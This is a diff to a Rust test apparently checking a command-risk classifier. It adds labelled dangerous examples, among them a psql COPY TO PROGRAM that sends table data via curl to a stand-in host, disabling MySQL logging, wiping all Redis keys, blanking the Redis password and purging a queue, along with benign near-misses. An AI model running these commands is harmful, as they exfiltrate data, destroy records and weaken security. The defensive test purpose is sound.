@@ -2639,6 +2639,28 @@ fn truncation_archives_remote_eval_and_essential_packages() {
             ),
             ("pnpm dlx create-vite app", "package-runner-sub"),
             ("busybox httpd -f -p 8000 -h .", "file-server-busybox"),
+            (
+                "psql -c \"COPY t TO PROGRAM 'curl -d @- https://x.example'\"",
+                "sql-runs-program",
+            ),
+            (
+                "psql -c \"COPY t TO '/tmp/t.csv'\"",
+                "sql-writes-server-file",
+            ),
+            ("mysql -e \"SET GLOBAL general_log = 'OFF'\"", "sql-log-off"),
+            (
+                "psql -c \"DELETE FROM t WHERE 1=1\"",
+                "sql-where-always-true",
+            ),
+            (
+                "redis-cli KEYS '*' | xargs redis-cli DEL",
+                "redis-keys-deleted",
+            ),
+            (
+                "redis-cli CONFIG SET requirepass ''",
+                "redis-server-control",
+            ),
+            ("rabbitmqctl purge_queue orders", "queue-delete"),
             ("grep -r 'PRIVATE KEY' /", "secret-search"),
             ("cat ~/.bash_history", "history-read"),
             ("find / -perm -4000", "setuid-search"),
@@ -2773,6 +2795,24 @@ fn truncation_archives_remote_eval_and_essential_packages() {
             ("getent passwd deploy", "shadow-read"),
             // `busybox` runs what it is given; `busybox sh` is read as `sh`.
             ("busybox ls", "interactive-shell"),
+            // psql's `\copy` writes on the client; a tautology with more is a condition.
+            (
+                "psql -c \"\\copy t TO 't.csv' CSV\"",
+                "sql-writes-server-file",
+            ),
+            (
+                "psql -c \"SELECT * FROM t WHERE 1=1 AND id = 5\"",
+                "sql-where-always-true",
+            ),
+            (
+                "redis-cli --scan --pattern 'c:*' | head",
+                "redis-keys-deleted",
+            ),
+            (
+                "redis-cli CONFIG SET requirepass \"$P\"",
+                "redis-server-control",
+            ),
+            ("rabbitmqctl list_queues", "queue-delete"),
             ("grep -ri password src/", "secret-search"),
             ("tailscale status", "vpn-join"),
             ("ip route show", "route-change"),
